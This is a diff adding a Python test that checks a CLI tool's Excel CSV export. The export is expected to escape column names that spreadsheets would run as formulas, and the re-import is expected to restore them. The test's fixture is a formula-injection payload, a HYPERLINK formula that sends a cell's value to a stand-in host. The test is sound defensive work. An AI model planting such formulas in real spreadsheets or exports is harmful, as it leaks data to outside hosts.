@@ -419,3 +419,24 @@ def test_a_reference_table_on_the_reviewers_search_path_round_trips(db, cli, wri
     result = cli("review", "import", str(out))
     assert result.returncode == 0, result.stderr
     assert db.execute("SELECT name, _needs_review FROM plans").fetchall() == [("reviewed name", False)]
+
+
+def test_a_column_name_a_spreadsheet_would_run_is_quoted_in_the_header_and_read_back(db, cli, write_config, tmp_path):
+    """Column names come from whoever made the table: a header cell such as
+    `=HYPERLINK(...)` is a formula to Excel as much as a value is. The
+    header gets the values' leading apostrophe, and the import takes it off."""
+    formula = '=HYPERLINK("http://x.example/?"&A2,"ok")'
+    db.execute(PUBLIC_TABLES.replace("name text", f'name text, "{formula.replace(chr(34), chr(34) * 2)}" text, "@x" text'))
+    assert cli("--config", str(write_config(PUBLIC_CONFIG)), "apply").returncode == 0
+    db.execute("INSERT INTO facts VALUES ('N1', 1)")
+    out = tmp_path / "pending.csv"
+    assert cli("export-pending", "-o", str(out), "--excel").returncode == 0
+    rows = read_csv(out, "utf-8-sig")
+    assert [c for c in rows[0] if c[:1] in "=+-@"] == [], rows[0]
+    assert "'" + formula in rows[0] and "'@x" in rows[0]
+    rows[1][rows[0].index("'" + formula)] = "a"
+    rows[1][rows[0].index("'@x")] = "b"
+    write_csv(out, rows)
+    result = cli("review", "import", str(out))
+    assert result.returncode == 0, result.stderr
+    assert db.execute(f'SELECT "{formula.replace(chr(34), chr(34) * 2)}", "@x" FROM plans').fetchall() == [("a", "b")]
